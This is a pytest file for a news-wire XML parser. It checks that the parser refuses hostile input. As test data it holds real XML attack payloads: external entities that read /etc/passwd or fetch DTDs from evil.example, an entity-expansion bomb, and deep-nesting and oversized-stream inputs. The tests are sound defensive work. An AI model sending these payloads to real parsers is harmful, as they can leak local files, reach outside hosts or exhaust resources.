"""What strangers send: one clear line each, nothing fetched, nothing that grows."""

import io
import socket
import time
from pathlib import Path

import pytest

from tests.formats.wires import DATED, LEAD, QUOTE, g2_item, newsml1, nitf, read, refusal, story, xhtml
from wireparse.domain import Story
from wireparse.errors import LimitError
from wireparse.formats import read_source, read_stream

BOMB = '<!DOCTYPE nitf [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
SECOND = 1.0
"""Seconds that a hostile message may take."""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **options: object) -> None:
        raise AssertionError("a reader opens a socket")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize(
    ("before", "message"),
    [
        pytest.param(
            '<!DOCTYPE nitf [\n<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            "x:2: expected XML that is complete in itself, found the external entity x",
            id="file",
        ),
        pytest.param(
            '<!DOCTYPE nitf [<!ENTITY x SYSTEM "http://evil.example/x">]>', "found the external entity x", id="address"
        ),
        pytest.param(
            '<!DOCTYPE nitf [<!ENTITY x PUBLIC "-//x" "http://evil.example/x">]>', "found the external entity x", id="public"
        ),
        pytest.param(
            '<!DOCTYPE nitf [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
            "found the external entity x",
            id="parameter",
        ),
        pytest.param(f"{BOMB}]>", "found an entity made of others, b", id="bomb"),
    ],
)
def test_entities_are_refused(before: str, message: str) -> None:
    assert message in refusal(nitf("He said &x; so.", before=before))
    assert message in refusal(nitf("He said &x; so.", before=before).encode("utf-16"), form="nitf")


@pytest.mark.usefixtures("no_network")
def test_an_external_dtd_is_never_fetched(tmp_path: Path) -> None:
    (tmp_path / "local.dtd").write_text('<!ENTITY secret "told">')
    for address in (
        "http://evil.example/nitf.dtd",
        "nitf-3-4.dtd",
        str(tmp_path / "local.dtd"),
        (tmp_path / "local.dtd").as_uri(),
    ):
        before = f'<!DOCTYPE nitf PUBLIC "-//IPTC//DTD NITF 3.4//EN" "{address}">'
        assert (
            story(nitf("Caf&eacute; &mdash; &secret; he said.", before=before, body_head="")).text == "Café — &secret; he said."
        )


def test_a_large_entity_used_often() -> None:
    began = time.monotonic()
    before = f'<!DOCTYPE nitf [<!ENTITY x "{"a" * 40_000}">]>'
    assert "amplification" in refusal(f'{before}<nitf><head><title id="{"&x;" * 5_000}"/></head></nitf>')
    assert time.monotonic() - began < SECOND


@pytest.mark.parametrize(
    ("content", "message"),
    [
        pytest.param("<nitf>" + "<b>" * 100_000, "found elements nested too deep", id="100,000 deep"),
        pytest.param(
            "<nitf>" + "<b>" * 220 + "x" + "</b>" * 220 + "</nitf>", "found elements nested more than 200 deep", id="220 deep"
        ),
        pytest.param(nitf(DATED)[:-20], "found the end of the document within an element", id="truncated"),
        pytest.param('<?xml version="1.0"?>\n<ni', "found XML with the root element <ni>", id="truncated root"),
        pytest.param('<?xml version="1.0"?>\n<!-- a', "found XML without a root element", id="truncated before the root"),
        pytest.param(nitf(DATED) + "\n" + nitf(QUOTE), "found a second document after the first", id="two documents"),
        pytest.param(
            '<?xml version="1.0"?><rss/>',
            "expected NITF, NewsML-G2, NewsML 1.2 or HTML, found XML with the root element <rss>",
            id="RSS",
        ),
        pytest.param(g2_item(xhtml(DATED))[:400], "expected well-formed XML", id="truncated G2"),
        pytest.param(newsml1("")[:60], "expected well-formed XML", id="truncated NewsML 1"),
    ],
)
def test_xml_that_is_none(content: str, message: str) -> None:
    began = time.monotonic()
    assert message in refusal(content, "a.xml")
    assert refusal(content, "a.xml").startswith("a.xml")
    assert time.monotonic() - began < SECOND


def test_a_fault_names_its_line_and_column() -> None:
    assert refusal("<nitf>\n<a>\n</b></nitf>", "a.xml").startswith("a.xml:3:5: expected well-formed XML, found ")


@pytest.mark.parametrize(
    ("content", "text", "warning"),
    [
        pytest.param(
            b'<?xml version="1.0" encoding="ISO-8859-1"?>' + nitf("Café “ja”.", body_head="").encode(),
            "Café “ja”.",
            "declared ISO-8859-1, but byte 0xC3 at offset",
            id="UTF-8 that claims Latin-1",
        ),
        pytest.param(
            nitf("Café and caf@.", body_head="").encode().replace(b"@", b"\xe9"),
            "Café and café.",
            "byte 0xE9 at offset",
            id="one stray byte",
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="ISO-8859-1"?>' + nitf("Café.", body_head="").encode("latin-1"),
            "Café.",
            None,
            id="true Latin-1",
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="windows-1251"?>' + nitf("Мир.", body_head="").encode("cp1251"),
            "Мир.",
            None,
            id="true Cyrillic",
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="UTF-16"?>' + nitf("Café.", body_head="").encode(),
            "Café.",
            None,
            id="UTF-8 that claims UTF-16",
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="rot13"?>' + nitf("Café.", body_head="").encode(),
            "Café.",
            None,
            id="no encoding at all",
        ),
        pytest.param(
            ('<?xml version="1.0" encoding="UTF-16"?>' + nitf("Café.", body_head="")).encode("utf-16"),
            "Café.",
            None,
            id="UTF-16",
        ),
        pytest.param(
            ('<?xml version="1.0" encoding="UTF-16"?>' + nitf("Café.", body_head="")).encode("utf-16-le"),
            "Café.",
            None,
            id="UTF-16 without a mark",
        ),
        pytest.param(nitf("Ca\x07fé.", body_head="").encode(), "Café.", "1 control characters", id="a control code"),
    ],
)
def test_encodings(content: bytes, text: str, warning: str | None) -> None:
    found = story(content)
    assert found.text == text
    assert [w for w in found.warnings if (warning or "none") in w] == list(found.warnings)
    assert len(found.warnings) == (warning is not None)


class Endless(io.RawIOBase):
    """A file of 500 MB that nobody should read."""

    def __init__(self, start: bytes) -> None:
        self.start, self.taken, self.size = start, 0, 500_000_000

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]
        count = min(len(buffer), self.size - self.taken)
        buffer[:count] = (self.start * (count // len(self.start) + 1))[:count] if not self.taken else b"a" * count
        self.taken += count
        return count


@pytest.mark.parametrize(
    "start", [b"<nitf>", b"<newsItem>", b"<NewsML>", b'{"uri": "', b"\x16\x01a0001\x1f", b"\x01a1 3 i ", b"<html>", b"words "]
)
def test_a_file_of_500_mb_is_refused_without_being_read(start: bytes) -> None:
    stream = Endless(start)
    (error,) = read_stream(stream, "big", limit=500_000)  # type: ignore[arg-type]
    assert isinstance(error, LimitError)
    assert str(error).startswith("big: expected a story of at most 500,000 characters, found more than ")
    assert stream.taken < 11_000_000


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(" " * 200_000, id="white space"),
        pytest.param("<!DOCTYPE" * 100_000, id="document types"),
        pytest.param(nitf("a-" + "\n" * 200_000 + "b"), id="line ends"),
        pytest.param(nitf("a<br/>" * 100_000), id="line breaks"),
        pytest.param("\x16\x01a0001\x1f-\n" + "^x<\n" * 50_000, id="slug lines"),
    ],
)
def test_long_runs_take_linear_time(content: str) -> None:
    began = time.monotonic()
    read(content, limit=1_000_000)
    assert time.monotonic() - began < 3 * SECOND


def test_a_bad_story_costs_no_other(tmp_path: Path) -> None:
    (tmp_path / "bad.xml").write_text(nitf(DATED)[:-9])
    (tmp_path / "good.xml").write_text(nitf(DATED))
    found = [loaded for name in ("bad.xml", "good.xml") for loaded in read_source(tmp_path / name, limit=50_000)]
    assert [isinstance(loaded, Story) for loaded in found] == [False, True]
    items = g2_item(xhtml(LEAD)) + g2_item("<inlineXML/>") + g2_item(xhtml(LEAD))
    assert [isinstance(s, Story) for s in read(f"<newsMessage>{items}</newsMessage>")] == [True, False, True]
